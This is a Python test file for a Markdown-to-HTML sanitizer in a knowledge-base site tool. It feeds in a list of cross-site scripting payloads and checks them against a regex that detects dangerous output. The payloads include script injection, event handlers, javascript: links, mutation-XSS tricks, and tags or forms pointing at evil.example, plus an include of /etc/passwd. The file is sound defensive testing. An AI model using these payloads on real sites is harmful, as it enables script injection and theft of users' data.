"""Hostile Markdown does not become a running page. Golden payloads through the real engine."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kbtool.site.engines.sanitize import sanitize
from tests.site.engine_room import render_body

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '<img src=x onerror="alert(1)">',
    '<svg onload="alert(1)"><circle/></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x)",
    "[a](x){ onclick=alert(1) }",
    "# Title { onmouseover=alert(1) }",
    "text\n{: style=position:fixed }",
    '<a href="x" style="position:fixed;inset:0">x</a>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '<div id="kb-main" class="kb-help kb">Call 0900</div>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "```js onclick=alert(1)\nx\n```",
    "--8<-- \"/etc/passwd\"",
]  # fmt: skip
_DANGER = re.compile(
    r"<\s*(?:script|iframe|object|embed|form|input|meta|base|link|style|svg|math)\b"
    r"|<[^>]*\son\w+\s*=|<[^>]*\sstyle\s*=|(?:href|src)\s*=\s*[\"']?\s*(?:javascript|vbscript|data):"
    r"|<img[^>]*\ssrc\s*=\s*[\"']?(?:[a-z]+:)?//|(?:id|class)=[\"'][^\"']*\bkb(?:-|\b)|root:x:",
    re.IGNORECASE,
)


def test_no_payload_survives_the_engine(tmp_path: Path) -> None:
    """All payloads in one article: nothing runs, loads, submits or poses as the page's frame."""
    html = render_body(tmp_path, "\n\n".join(PAYLOADS))
    assert _DANGER.search(html) is None, _DANGER.search(html)


@pytest.mark.parametrize(
    "wanted",
    [
        '<h2 id="step-1">Step 1</h2>',
        "<strong>bold</strong>",
        '<a href="https://velmo.example">x</a>',
        '<a href="../b/">x</a>',
        '<img src="../media/a.png" alt="A">',
        '<td align="right">1</td>',
        "<kbd>Enter</kbd>",
        '<div class="admonition note">',
        '<code class="language-sh">',
        "<details><summary>More</summary>",
        '<ol start="3">',
    ],
)
def test_what_articles_need_survives(wanted: str) -> None:
    """Headings, links, pictures, tables, notes and code keep what makes them."""
    table = f"<table><tbody><tr>{wanted}</tr></tbody></table>" if wanted[1] == "t" else wanted
    assert wanted in sanitize(table)


def test_a_table_can_be_scrolled_by_keyboard() -> None:
    """It is in the order of focus, wherever its author put it."""
    assert sanitize('<table tabindex="7"></table>') == '<table tabindex="0"></table>'


@given(st.text(alphabet="<>/=\"' abonscriptimgx:;&#\n", max_size=120))
def test_cleaning_twice_changes_nothing(text: str) -> None:
    """What came out once is clean."""
    once = sanitize(text)
    assert sanitize(once) == once
    assert _DANGER.search(once) is None
